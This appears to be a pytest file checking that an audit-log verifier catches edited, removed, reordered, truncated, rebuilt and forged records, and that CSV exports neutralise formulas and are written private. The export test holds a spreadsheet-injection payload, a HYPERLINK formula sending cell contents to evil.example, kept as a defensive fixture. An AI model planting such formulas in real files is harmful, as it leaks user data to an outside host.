"""Audit anchoring: the decision log checked against the router's signed checkpoints (item 6).

Today's attacks: ``hub audit verify`` passed after the last records of a partition were
dropped, and on a chain rebuilt from scratch (a hash chain has no key: whoever can
write the topic can make a consistent one). Now the router signs a checkpoint of each
chain's head at least every minute; verify names every edit, removal, reorder,
truncation, rebuild and unanchored append by partition and offset, and exits 1.
Exports neutralise spreadsheet formulas and are private (0600).
"""

from __future__ import annotations

import csv
import json
import stat
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from typer.testing import CliRunner

from hub.audit import (
    CHECKPOINT_CONTEXT,
    GENESIS,
    Anchor,
    AuditReport,
    ChainHead,
    Finding,
    checkpoint_record,
    seal_record,
    valid_checkpoints,
    verify_partition,
    write_export,
)
from hub.bootstrap import Hub
from hub.security.keys import ROUTER_SIGNING, Keyring
from hub.security.signing import SignatureVerifier, Signer
from schemas.decision import DecisionRecorded
from tests.factories import NOW, envelope, subject
from tests.security.kit import Router

PARTITION = 3
Record = tuple[int, bytes]


@dataclass
class Log:
    """One partition's decisions (at offsets 10, 12, ...) and its signed checkpoints."""

    hub: Hub
    records: list[Record]
    checkpoints: list[tuple[int, bytes, tuple[tuple[str, bytes], ...]]]

    def verify(self, records: list[Record] | None = None, **kw: Any) -> list[Finding]:
        keys = Keyring(self.hub.settings.crypto.keys_dir).public_keys(ROUTER_SIGNING)
        verifier = SignatureVerifier(CHECKPOINT_CONTEXT, keys)
        valid, bad = valid_checkpoints(PARTITION, self.checkpoints, verifier)
        now = kw.pop("now", NOW + timedelta(seconds=30))
        _count, found = verify_partition(
            PARTITION, self.records if records is None else records, valid, now=now, **kw
        )
        return bad + found


def routed_log(hub: Hub, n: int = 6) -> Log:
    """``n`` decisions on one partition, with a checkpoint after the 3rd and the last."""
    router = Router.for_partition(hub, PARTITION)
    signer = hub.checkpoint_signer()
    records: list[Record] = []
    checkpoints = []
    anchor = Anchor()
    for i in range(n):
        env = envelope(subjects=[subject(label=f"c{i}")])
        value = next(o.value for o in router.send(env, i) if o.topic == "hub.decisions")
        records.append((10 + 2 * i, value))
        if i in {2, n - 1}:
            cp, headers = checkpoint_record(
                router.task.chain, PARTITION, anchor, at=NOW, router="router-1", signer=signer
            )
            checkpoints.append((len(checkpoints) * 2, cp, headers))
            anchor = Anchor.of(cp)
    return Log(hub, records, checkpoints)


def rechain(values: list[bytes], change: int) -> list[bytes]:
    """The log made again from GENESIS with record ``change`` altered: a consistent chain."""
    out, prev = [], GENESIS
    for i, value in enumerate(values):
        record = DecisionRecorded.model_validate_json(value)
        fields = {k: v for k, v in record if k not in {"prev_hash", "hash"}}
        if i == change:
            fields["rationale"] = ("Rewritten to hide a referral.",)
        prev, sealed = seal_record(fields, prev)
        out.append(sealed)
    return out


def only(findings: list[Finding]) -> Finding:
    assert len(findings) == 1, findings
    return findings[0]


class TestVerify:
    def test_the_routers_log_is_intact(self, hub: Hub) -> None:
        """A log as the router wrote it, with its checkpoints, has no finding."""
        assert routed_log(hub).verify() == []

    def test_an_edited_record_is_named(self, hub: Hub) -> None:
        """A changed field, hash left as it was: edited, at that record's offset."""
        log = routed_log(hub)
        data = json.loads(log.records[2][1])
        data["destinations"] = ["record-only"]
        log.records[2] = (log.records[2][0], json.dumps(data, separators=(",", ":")).encode())
        found = only(log.verify())
        assert (found.kind, found.partition, found.offset) == ("edited", PARTITION, 14)
        assert "hub.decisions partition 3 offset 14: edited" in str(found)

    def test_a_removed_record_is_named(self, hub: Hub) -> None:
        """The record after the gap names it."""
        log = routed_log(hub)
        del log.records[2]
        found = only(log.verify())
        assert (found.kind, found.offset) == ("removed", 16)

    def test_reordered_records_are_named(self, hub: Hub) -> None:
        """Two records swapped: the first out of place is named."""
        log = routed_log(hub)
        (a, first), (b, second) = log.records[2], log.records[3]
        log.records[2], log.records[3] = (a, second), (b, first)
        found = only(log.verify())
        assert (found.kind, found.offset) == ("reordered", 14)

    def test_a_truncated_tail_is_named(self, hub: Hub) -> None:
        """The last records dropped: the chain still links, the checkpoint says more."""
        log = routed_log(hub)
        kept = log.records[:-2]
        found = only(log.verify(kept))
        assert (found.kind, found.offset) == ("truncated", kept[-1][0])
        assert "covers 6 records" in found.text

    def test_a_chain_rebuilt_from_scratch_is_named(self, hub: Hub) -> None:
        """Every record made again from GENESIS (a consistent chain): not the one signed."""
        log = routed_log(hub)
        rebuilt = rechain([v for _o, v in log.records], change=0)
        found = only(log.verify([(o, v) for (o, _), v in zip(log.records, rebuilt, strict=True)]))
        assert (found.kind, found.offset) == ("rebuilt", 10)

    def test_a_rewritten_tail_is_named(self, hub: Hub) -> None:
        """The first records kept, later ones made again: the signed head is not there."""
        log = routed_log(hub)
        rewritten = rechain([v for _o, v in log.records], change=4)
        found = only(log.verify([(o, v) for (o, _), v in zip(log.records, rewritten, strict=True)]))
        assert (found.kind, found.offset) == ("rewritten", 20)

    def test_an_unanchored_append_is_named(self, hub: Hub) -> None:
        """A record chained on after the last checkpoint, older than a checkpoint interval."""
        log = routed_log(hub)
        values = [v for _o, v in log.records]
        extra = rechain([*values, values[0]], change=-1)[-1]
        appended = [*log.records, (30, extra)]
        assert log.verify(appended, now=NOW + timedelta(minutes=1)) == []  # within the interval
        found = only(log.verify(appended, now=NOW + timedelta(minutes=10)))
        assert (found.kind, found.offset) == ("unanchored", 30)

    def test_a_forged_checkpoint_is_named(self, hub: Hub) -> None:
        """A checkpoint signed with any other key is not the router's, and anchors nothing."""
        log = routed_log(hub)
        forger = Signer(CHECKPOINT_CONTEXT, "k1", Ed25519PrivateKey.generate())
        chain = ChainHead().advance("a" * 64)
        value, headers = checkpoint_record(
            chain, PARTITION, Anchor(), at=NOW, router="router-1", signer=forger
        )
        log.checkpoints = [(0, value, headers)]
        found = log.verify(now=NOW + timedelta(minutes=10))
        assert [(f.kind, f.topic, f.offset) for f in found] == [
            ("checkpoint", "hub.audit-checkpoints", 0),
            ("unanchored", "hub.decisions", 10),
        ]

    def test_a_removed_checkpoint_is_named(self, hub: Hub) -> None:
        """Checkpoints chain too: one taken out breaks the link of the next."""
        log = routed_log(hub)
        del log.checkpoints[0]
        found = only(log.verify())
        assert (found.kind, found.offset) == ("checkpoint", 2)


class TestVerifyCommand:
    @pytest.mark.parametrize(("findings", "code"), [((), 0), (("truncated",), 1)])
    def test_exit_status(
        self,
        hub: Hub,
        monkeypatch: pytest.MonkeyPatch,
        findings: tuple[str, ...],
        code: int,
    ) -> None:
        """0 when intact; 1 with each finding printed with its partition and offset."""
        from hub.cli import app  # noqa: PLC0415 -- the command under test
        from hub.cli import audit as audit_cli  # noqa: PLC0415

        found = tuple(Finding("hub.decisions", 3, 20, k, "x") for k in findings)

        async def fake(*_args: Any, **_kw: Any) -> AuditReport:
            return AuditReport(6, 6, 2, found)

        monkeypatch.setattr(audit_cli, "verify_log", fake)
        monkeypatch.setattr(audit_cli, "current_hub", lambda: hub)  # no logging set-up
        result = CliRunner().invoke(app, ["audit", "verify"])
        assert result.exit_code == code, result.output
        if findings:
            assert "hub.decisions partition 3 offset 20: truncated" in result.output


class TestExport:
    FORMULAS = (
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+44 1234",
        "-1+1",
        "@SUM(A1)",
        "\tx",
        "\rx",
    )

    def test_formula_cells_are_neutralised(self, tmp_path: Path) -> None:
        """The issue's attack: a partner reference =HYPERLINK(...) is text in the CSV."""
        rows = [
            {
                "decided_at": "2026-11-25",
                "source_reference": f,
                "why": [f],
                "shared_without_consent": False,
            }
            for f in self.FORMULAS
        ]
        _json_path, csv_path = write_export(rows, tmp_path, "x")  # type: ignore[arg-type]
        with csv_path.open(newline="") as handle:
            read = list(csv.DictReader(handle))
        for row, formula in zip(read, self.FORMULAS, strict=True):
            assert row["source_reference"] == "'" + formula
            assert row["why"] == "'" + formula
            assert row["shared_without_consent"] == "False"

    def test_exports_are_private(self, tmp_path: Path) -> None:
        """Both files are 0600, even when an older export with another mode was there."""
        (tmp_path / "x.csv").write_text("old")
        (tmp_path / "x.csv").chmod(0o644)
        paths = write_export([], tmp_path, "x")
        for path in paths:
            assert stat.S_IMODE(path.stat().st_mode) == 0o600
